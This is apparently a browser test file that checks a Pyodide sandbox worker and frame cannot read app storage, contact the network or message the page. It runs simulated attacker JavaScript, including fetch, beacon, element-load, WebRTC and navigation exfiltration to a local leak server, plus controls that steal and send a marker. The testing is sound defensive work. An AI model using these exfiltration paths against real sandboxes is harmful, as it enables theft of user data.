// Proves in real Chromium that even JavaScript running inside the sandbox worker or frame cannot
// reach the app: no storage, no network, no channel to the page, and a frame's navigation sends no
// request. The recorders, storage checks, BroadcastChannel and navigation checks each have a control
// run where the same attempt does succeed, so every "nothing happened" assertion can fail.
// Findings and residuals are printed (search the output for FINDING and RESIDUAL). The Python-level
// attempts are in sandbox-isolation-python.test.ts; the shared rig is sandbox-isolation-rig.ts.
import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { LEAK_DOMAIN } from './leak-recorder.ts';
import type { AttackReport, AttackRequest } from './pages/sandbox-attack-runs.ts';
import {
  appLeaks,
  controlConnections,
  describeNoLeakOverTheRun,
  itFindsAppStorageIntact,
  leak,
  leaks,
  MARKER,
  openIsolationRig,
  page,
  readStorage,
  rig,
  show,
  sleep,
} from './sandbox-isolation-rig.ts';
import { NETWORK_ATTEMPTS, STORAGE_ATTEMPTS } from './sandbox-attacks.ts';

const CONTROL_PAGE = '/tests/browser/pages/no-csp.html';
const CHANNEL = 'spade-lab';

openIsolationRig();

function leakByName(): string {
  return `http://${LEAK_DOMAIN}:${new URL(leak.origin).port}`;
}

function attackRequest(tag: string, extra: Partial<AttackRequest> = {}): AttackRequest {
  return {
    tag,
    leakOrigin: leak.origin,
    leakByName: leakByName(),
    channelName: CHANNEL,
    attemptTimeoutMs: 3000,
    ...extra,
  };
}

// --- b. JavaScript level, inside the sandbox worker and frame -------------------------------------

describe('b. JavaScript level: an attacker already running JS as the sandbox worker', () => {
  let report: AttackReport;
  const deathText = `attacker-controlled death report ${randomUUID()}`;

  beforeAll(async () => {
    report = await page.evaluate(
      (request) => window.spadeTest.runWorkerAttack('sandbox', request),
      attackRequest('sandbox', { throwAtEnd: deathText }),
    );
    await sleep(1000);
    show('JS attack from the sandbox worker', report);
  });

  it("runs in the sandbox frame's opaque origin, was handed exactly one port and no page objects", () => {
    expect(report.results['self.origin']).toEqual({ ok: true, value: 'null' });
    expect(report.results['location.href']).toEqual({ ok: true, value: expect.stringMatching(/^blob:null\//) });
    expect(report.results['window/parent/document reachable']).toEqual({
      ok: true,
      value: { window: 'undefined', parent: 'undefined', top: 'undefined', opener: 'undefined', document: 'undefined' },
    });
    // The frame's compiled Pyodide module is code only: each worker instantiates its own memory.
    expect(report.boot).toEqual({ keys: ['files', 'port', 'wasmModule'], transferredPorts: 1, fileNames: [] });
    // No WebRTC in a worker: the one network path CSP does not govern is not there.
    // (RTCDataChannel exists in workers only to receive channels transferred from a window.)
    expect(report.results['WebRTC in this scope']).toEqual({
      ok: true,
      value: {
        RTCPeerConnection: 'undefined',
        RTCDataChannel: 'function',
        newRTCDataChannel: expect.stringMatching(/^TypeError: .*Illegal constructor/),
      },
    });
  });

  it("sees nothing of the app's IndexedDB, Cache Storage, localStorage or OPFS", () => {
    expect(report.stolen).toBe('nothing');
    expect(JSON.stringify(report)).not.toContain(MARKER);
    // Stricter than "saw nothing": storage of an opaque origin is refused outright, reads and
    // writes alike (IndexedDB: SecurityError; caches, localStorage, OPFS: not even exposed).
    for (const name of STORAGE_ATTEMPTS) expect(report.results[name]?.ok, name).toBe(false);
    expect(report.results['indexedDB.open(app db) read marker']).toEqual({
      ok: false,
      error: expect.stringMatching(/^SecurityError/),
    });
  });

  it('cannot reach the network in any way (each attempt fails; no request, TCP connection or name look-up arrived)', async () => {
    for (const name of NETWORK_ATTEMPTS) {
      expect(report.results[name]?.ok, name).toBe(false);
    }
    await sleep(500);
    expect(leaks()).toEqual([]);
    expect(leak.tcpConnections).toBe(controlConnections);
  });

  it('d. cannot talk to the page over BroadcastChannel, and its postMessage reaches only the frame', () => {
    // The page's channel does hear a same-origin sender (control) ...
    expect(report.page.broadcastReceived).toContainEqual({ fromPageControl: true });
    // ... but nothing the sandbox posted on the same channel name, nor does the sandbox hear the page.
    expect(report.page.broadcastReceived.filter((m) => JSON.stringify(m).includes('fromAttacker'))).toEqual([]);
    expect(report.broadcastReceivedByAttacker).toEqual([]);
    expect(report.results['BroadcastChannel post to page']?.ok).toBe(true);
    // self.postMessage goes to the frame's Worker object, which forwards nothing.
    expect(report.page.windowMessages.filter((m) => JSON.stringify(m).includes('fromAttacker'))).toEqual([]);
  });

  it("the only other path to the page is the frame's death report, which carries attacker-chosen text", () => {
    // Documented behaviour, not a leak of app data: it comes on the frame's private control port
    // (nothing on the page's window), the host truncates it to 500 characters and only shows it
    // as the reason that one sandbox died. Before it, the frame's own script reports once what its
    // workers start from (a fixed source word and the frame's reason), with no sandbox text in it.
    expect(report.page.windowMessages).toEqual([]);
    const [startedFrom, ...rest] = report.page.frameMessages;
    expect(Object.keys(startedFrom as object).sort()).toEqual(['spadeSnapshotSource', 'why']);
    expect(['build', 'page', 'none']).toContain((startedFrom as { spadeSnapshotSource: string }).spadeSnapshotSource);
    expect(JSON.stringify(startedFrom)).not.toContain(deathText);
    expect(rest).toEqual([{ spadeSandboxDied: expect.stringContaining(deathText), id: 0 }]);
  });
});

describe("b. JavaScript level: an attacker running as the sandbox frame's own script (same html, same CSP)", () => {
  let report: AttackReport;

  beforeAll(async () => {
    report = await page.evaluate((request) => window.spadeTest.runFrameAttack(request), attackRequest('frame'));
    await sleep(1500);
    show('JS attack from the sandbox frame script', report);
  });

  it('has an opaque origin and no access to storage, cookies or the parent page', () => {
    expect(report.results['self.origin']).toEqual({ ok: true, value: 'null' });
    for (const name of [
      'localStorage',
      'localStorage write pwned',
      'sessionStorage',
      'document.cookie read',
      'document.cookie write',
      'indexedDB.open(app db)',
      'caches.keys()',
      'OPFS navigator.storage.getDirectory()',
      'parent.document',
      'parent.localStorage',
      'parent.spadeTest',
      'top.location.href read',
    ]) {
      expect(report.results[name]?.ok, name).toBe(false);
    }
    expect(JSON.stringify(report)).not.toContain(MARKER);
  });

  it('cannot send anything out: fetch, beacon, XHR, sockets, elements, popups, top navigation, forms', async () => {
    for (const name of [
      'fetch(leak server)',
      'fetch(app origin)',
      'XMLHttpRequest',
      'WebSocket',
      'EventSource',
      '<img src=leak>',
      '<script src=leak>',
      '<link rel=stylesheet href=leak>',
      '<link rel=prefetch href=leak>',
      'window.open(leak)',
      'top.location = leak',
    ]) {
      expect(report.results[name]?.ok, name).toBe(false);
    }
    // sendBeacon only says it queued the beacon; the frame CSP then refuses it.
    expect(report.violations.some((v) => v.startsWith('connect-src') && v.includes('/frame-beacon'))).toBe(true);
    await sleep(1000);
    expect(leaks()).toEqual([]);
  });

  it('residuals, only for script in the frame itself (environments never run there): WebRTC and navigation pre-connects', () => {
    // Printed, not asserted: these are browser behaviours outside CSP. Environment code runs in the
    // worker, which has no WebRTC and no DOM (asserted above), and the frame runs only its fixed script.
    console.log(
      `RESIDUAL frame script: RTCPeerConnection ${JSON.stringify(report.results['RTCPeerConnection STUN to leak host'])}; ` +
        `UDP datagrams at the leak host: ${JSON.stringify(leak.udpPackets)}`,
    );
    console.log(
      `RESIDUAL frame script: TCP connections to the leak host after the frame attack: ${leak.tcpConnections - controlConnections} ` +
        `(a CSP-blocked nested <iframe src> still pre-connects; no HTTP request was sent)`,
    );
    // What is asserted: both residuals were measured in this run.
    expect(report.results['RTCPeerConnection STUN to leak host']).toBeDefined();
    expect(leak.tcpConnections).toBeGreaterThanOrEqual(controlConnections);
  });
});

describe('after the attacks', () => {
  itFindsAppStorageIntact();

  it('control: the same attacker as a page-origin worker does steal, write and send (so the checks above can fail)', async () => {
    const report = await page.evaluate(
      (request) => window.spadeTest.runWorkerAttack('page-worker', request),
      attackRequest('control-worker'),
    );
    await sleep(1000);
    show(
      'control: JS attack from a page-origin worker (outcomes only)',
      Object.fromEntries(Object.entries(report.results).map(([k, v]) => [k, v.ok])),
    );
    expect(report.results['self.origin']).toEqual({ ok: true, value: new URL(rig.baseUrl).origin });
    expect(report.stolen).toContain(MARKER);
    expect(report.results['fetch(leak server, absolute)']?.ok).toBe(true);
    expect(
      leak.requests.some((r) => r.includes('/leak/control-worker/fetch?data=' + encodeURIComponent(report.stolen))),
    ).toBe(true);
    expect(appLeaks.some((r) => r.includes('/__leak/control-worker/fetch-app'))).toBe(true);
    expect(report.page.broadcastReceived).toContainEqual({ fromAttacker: 'control-worker', stolen: report.stolen });
    expect(report.broadcastReceivedByAttacker).toContainEqual({ fromPage: 'ping' });
    const storage = await readStorage();
    expect(storage.idb.pwned).toBe('pwned by attacker');
    expect(storage.cache.pwned).toBe('pwned by attacker');
    expect(storage.opfs.pwned).toBe('pwned by attacker');
  });
});

// --- c. The navigation hole ------------------------------------------------------------------------

describe('c. a sandboxed srcdoc frame navigating itself to a leak URL', () => {
  it("loads and runs under the app's page CSP, but its navigation to the leak URL sends no request", async () => {
    const port = new URL(leak.origin).port;
    const connections: string[] = [];
    for (const method of ['location', 'anchor', 'meta-refresh'] as const) {
      const before = leak.tcpConnections;
      // A fresh host name per method, so a pre-connect cannot hide behind an idle pooled socket.
      const url = `http://${method}-data-x.${LEAK_DOMAIN}:${port}/leak/navigation-${method}?data=x`;
      const result = await page.evaluate(([target, how]) => window.spadeTest.navigationProbe(target, how), [
        url,
        method,
      ] as const);
      console.log(`navigation probe (${method}) under the app CSP: ${JSON.stringify(result)}`);
      expect(result.loaded, method).toBe(true);
      expect(result.frameOrigin, method).toBe('null');
      connections.push(`${method}: ${leak.tcpConnections - before}`);
    }
    expect(leaks()).toEqual([]);
    console.log(
      `RESIDUAL navigation under frame-src 'none': no HTTP request, but TCP connections (after resolving the host name) per method: ${connections.join(', ')}`,
    );
  });

  it("control: on a page without the app's CSP the same frame does reach the leak server", async () => {
    const control = await rig.open(CONTROL_PAGE);
    try {
      await control.waitForFunction(() => window.spadeControl !== undefined);
      const url = `http://control-data-x.${LEAK_DOMAIN}:${new URL(leak.origin).port}/leak/control-navigation?data=x`;
      const result = await control.evaluate((target) => window.spadeControl.navigationProbe(target, 'location'), url);
      expect(result.loaded).toBe(true);
      expect(leak.requests).toContain('GET /leak/control-navigation?data=x');
    } finally {
      await control.context().close();
    }
  });
});

describeNoLeakOverTheRun();
